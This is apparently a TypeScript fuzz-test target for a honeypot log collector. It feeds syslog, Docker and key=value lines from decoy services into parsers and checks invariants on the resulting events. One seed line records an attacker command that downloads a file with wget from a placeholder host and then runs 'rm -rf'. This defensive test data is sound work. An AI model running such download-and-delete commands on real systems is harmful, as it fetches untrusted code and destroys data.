/** What decoys print, in whatever form: lines out of streams, and what they say. */
import assert from "node:assert/strict";
import { attackerOf } from "../../../lib/collect/attacker_of.ts";
import { guessAddress } from "../../../lib/collect/guess_address.ts";
import { decodeLine, safeLine } from "../../../lib/collect/line_text.ts";
import type { LineReading } from "../../../lib/collect/line_reading.ts";
import { readLine } from "../../../lib/collect/read_line.ts";
import type { Origin } from "../../../lib/collect/source.ts";
import { createEvent } from "../../../lib/event/create.ts";
import { parseAddress } from "../../../lib/net/address.ts";
import type { BsdClock } from "../../../lib/syslog/rfc3164.ts";
import { cutLines } from "../../support/chunked_lines.ts";
import { assertOneLine, assertSurvives } from "../event_lines.ts";
import { choice, cut } from "../pieces.ts";
import type { FuzzTarget } from "../target.ts";

/** Short, so that lines over it come by. */
const MAX_LINE = 400;

/** Shorter than many a line, so that these have to be put together. */
const READ_SIZE = 256;

/** Lines of one input that are looked at. */
const MOST_LINES = 50;

const CLOCK: BsdClock = { now: Date.UTC(2026, 2, 1) * 1000, offset: -300 };

const NOWHERE: Origin = { decky: undefined, service: undefined, container: undefined };
const ORIGINS: readonly Origin[] = [
  NOWHERE,
  { decky: "omega", service: "ssh", container: "omega-ssh" },
  { ...NOWHERE, container: "c" },
];

const RELAYED =
  '<134>1 2026-01-02T03:04:05.678901Z omega ssh 1 login_attempt [relay@55555 src_ip="192.0.2.7" ' +
  'port="22" user="a\\"b\\\\c\\]d"] Failed password for root from 192.0.2.8 port 22';

const LINES = [
  RELAYED,
  `<30>Jan  2 03:04:05 docker omega[12]: ${RELAYED}`,
  `<30>1 2026-01-02T03:04:06Z host omega 12 omega - ${RELAYED}`,
  `<30>1 2026-01-02T03:04:06Z host c 1 - - 2026-01-02T03:04:05Z omega ssh - conn [a b="c"] d`,
  `{"log":${JSON.stringify(RELAYED)},"stream":"stdout","time":"2026-01-02T03:04:05.000000006Z"}`,
  `omega-ssh  | ${RELAYED}`,
  `2026-01-02T03:04:05.6Z ${RELAYED}`,
  "2026-01-02T03:04:05.678+02:00 host prog[3]: event=login user=root src=192.0.2.9:22",
  'event_type=conn remote_addr="[2001:db8::1]:80" decky=a service=b note="a \\"b\\" c"',
  "CMD uid=0 user=root src=192.0.2.7 pwd=/root cmd=wget http://192.0.2.1/x; rm -rf x",
];

export const COLLECT_LINE: FuzzTarget = {
  name: "collect_line",
  words: [
    ...[
      "<134>1 ",
      ' [relay@55555 src_ip="',
      '"] ',
      '="',
      "\\",
      "\\]",
      " - ",
      "<30>Jan  2 03:04:05 ",
    ],
    ...["event=", "event_type=", "src=", " cmd=", "CMD ", "pwd=", " from ", "[2001:db8::1]:80"],
    ...['{"log":"', '"stream":"stderr"', "\\u000a", "::ffff:192.0.2.7", "__proto__", "constructor"],
    ...["\u202e", "\u2028", "\ufeff", "\u0085", "\u{1f600}", "\r", "\r\n", "9999-12-31T23:59:59Z"],
  ],
  seeds: () => {
    const encoder = new TextEncoder();
    return [...LINES, `${LINES.join("\r\n")}\n`].map((line) => encoder.encode(line));
  },
  run(input) {
    const lines = split([input]);
    assert.deepEqual(split(cut(input)), lines);
    const origin = ORIGINS[choice(input, ORIGINS.length)]!;
    assertOneLine(safeLine(decodeLine(input)));
    const kinds = lines.slice(0, MOST_LINES).map(({ text }) => kindOf(text, origin));
    return `${lines.length > 1} ${[...new Set(kinds)].slice(0, 4)}`;
  },
};

function split(pieces: readonly Uint8Array[]) {
  return cutLines(pieces, MAX_LINE, READ_SIZE);
}

function kindOf(text: string, origin: Origin): string {
  assert.ok(!text.includes("\n"));
  assertOneLine(safeLine(text));
  const guessed = guessAddress(text);
  assert.ok(guessed === undefined || parseAddress(guessed) !== undefined, guessed);
  const reading = readLine(text, origin, CLOCK);
  if (reading === undefined) {
    assert.equal(origin, NOWHERE);
    return "none";
  }
  check(reading);
  const { time, eventType, names, damaged } = reading;
  return `${time === undefined} ${eventType.length > 1} ${Math.min(names.length, 4)} ${damaged}`;
}

function check({ time, decky, service, eventType, names, values, msg }: LineReading): void {
  assert.equal(new Set(names).size, names.length);
  assert.equal(values.length, names.length);
  assert.ok(time === undefined || Number.isSafeInteger(time));
  const found = attackerOf(names, values);
  assert.ok(found === undefined || parseAddress(found.address) !== undefined);
  assertSurvives(createEvent({
    time: time ?? CLOCK.now,
    ...{ sensor: "s", decky, service, eventType, msg, origin: "o" },
    fields: Object.fromEntries(names.map((name, index) => [name, values[index]])),
  }));
}
